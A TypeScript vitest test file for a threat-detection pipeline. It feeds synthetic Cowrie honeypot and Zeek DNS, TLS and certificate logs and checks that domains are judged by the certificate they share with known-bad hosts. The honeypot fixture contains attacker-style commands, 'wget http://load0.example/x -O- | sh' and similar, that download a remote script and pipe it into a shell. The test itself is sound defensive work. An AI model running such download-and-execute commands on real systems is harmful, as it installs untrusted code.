import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openSystem, type System } from '../../../test/setup/commands.ts';

let system: System;
const folder = mkdtempSync(join(tmpdir(), 'caltrop-certificates-'));
const daySeconds = 86_400;
/** What was not seen for a month says nothing of others. */
const began = (Math.floor(Date.now() / 1_000 / daySeconds) - 12) * daySeconds;

const client = { 'id.orig_h': '10.1.2.3', 'id.orig_p': 40_000 };
/** Lines of Zeek's dns.log, ssl.log and x509.log, as JSON. */
const dns = (day: number, query: string, ip: string) => ({
  ...{ ts: began + day * daySeconds, uid: `D${query}`, proto: 'udp', ...client },
  ...{ 'id.resp_h': '10.1.2.53', 'id.resp_p': 53, qtype_name: 'A', rcode_name: 'NOERROR' },
  ...{ query, answers: [ip], TTLs: [600] },
});
const ssl = (day: number, name: string, ip: string, fingerprint: string, matches: boolean) => ({
  ...{ ts: began + day * daySeconds + 1, uid: `S${name}`, ...client, 'id.resp_h': ip, 'id.resp_p': 443 },
  ...{ server_name: name, resumed: false, established: true, cert_chain_fps: [fingerprint] },
  sni_matches_cert: matches,
});
const x509 = (day: number, fingerprint: string, names: string[]) => ({
  ...{ ts: began + day * daySeconds + 2, fingerprint, 'certificate.serial': '0A', 'san.dns': names },
});

async function write(name: string, format: string, rows: object[]): Promise<void> {
  const path = join(folder, name);
  writeFileSync(path, `${rows.map((row) => JSON.stringify(row)).join('\n')}\n`);
  expect((await system.run('import', '--format', format, path)).code).toBe(0);
}

const bad = [0, 1, 2, 3].map((n) => `load${n}.example`);
const theirs = 'a1'.repeat(32);
const hosted = 'b2'.repeat(32);

beforeAll(async () => {
  system = await openSystem();
  const told = bad.map((name, second) => ({
    ...{ eventid: 'cowrie.command.input', input: `cd /tmp; wget http://${name}/x -O- | sh` },
    ...{ timestamp: new Date((began + second + 2) * 1_000).toISOString(), src_ip: '192.0.2.7' },
    ...{ session: 'aa1', sensor: 'd', protocol: 'ssh' },
  }));
  const head = { src_ip: '192.0.2.7', session: 'aa1', sensor: 'd', protocol: 'ssh' };
  const at = (second: number) => ({ timestamp: new Date((began + second) * 1_000).toISOString(), ...head });
  await write('cowrie.json', 'cowrie', [
    { eventid: 'cowrie.session.connect', src_port: 4, dst_ip: '198.51.100.1', dst_port: 22, ...at(0) },
    { eventid: 'cowrie.login.success', username: 'root', password: 'x', ...at(1) },
    ...told,
    { eventid: 'cowrie.session.closed', duration_ms: 4_000, ...at(9) },
  ]);
  const names = ['www.orchard.example', 'www.bank.example', 'www.guest.example'];
  // What is bad comes on the fourth day, others with it on the tenth; each has an address of its own.
  await write('dns.log', 'zeek-dns', [
    ...Array.from({ length: 30 }, (_, n) => dns(n % 10, `www.shop${n}.example`, `198.51.100.${n}`)),
    ...bad.map((name, n) => dns(4, name, `203.0.113.${n}`)),
    ...names.map((name, n) => dns(10, name, `203.0.113.${100 + n}`)),
  ]);
  await write('ssl.log', 'zeek-ssl', [
    ...[0, 2, 4, 6, 8].map((day) =>
      ssl(day, `www.shop${day}.example`, `198.51.100.${day}`, 'c3'.repeat(32), true),
    ),
    ...bad.map((name, n) => ssl(4, name, `203.0.113.${n}`, theirs, true)),
    ...bad.map((name, n) => ssl(4, name, `203.0.113.${n}`, hosted, true)),
    ssl(10, 'www.orchard.example', '203.0.113.100', theirs, true),
    // A client asks a bad server for the bank, which shows what the bank itself would show.
    ssl(10, 'www.bank.example', '203.0.113.0', theirs, true),
    ssl(10, 'www.guest.example', '203.0.113.102', hosted, true),
  ]);
  await write('x509.log', 'zeek-x509', [
    x509(4, hosted, ['*.guest.example', ...Array.from({ length: 20 }, (_, n) => `customer${n}.com`)]),
  ]);
}, 240_000);
afterAll(async () => {
  await system?.close();
  rmSync(folder, { recursive: true, force: true });
});

it('judges a name by whose certificate it has: not by what a client asked for, nor by what a host has for all', async () => {
  const { domains } = system.pipeline;
  const says = async (name: string) =>
    ((await domains.show(name))?.reasons ?? []).map(({ says }) => says).join('; ');
  expect(await says('www.orchard.example')).toContain('certificate');
  expect(await says('www.bank.example')).not.toContain('certificate');
  expect(await says('www.guest.example')).not.toContain('certificate');
  const score = async (name: string) => (await domains.show(name))!.score;
  expect(await score('www.orchard.example')).toBeGreaterThan((await score('www.guest.example')) + 20);
}, 120_000);
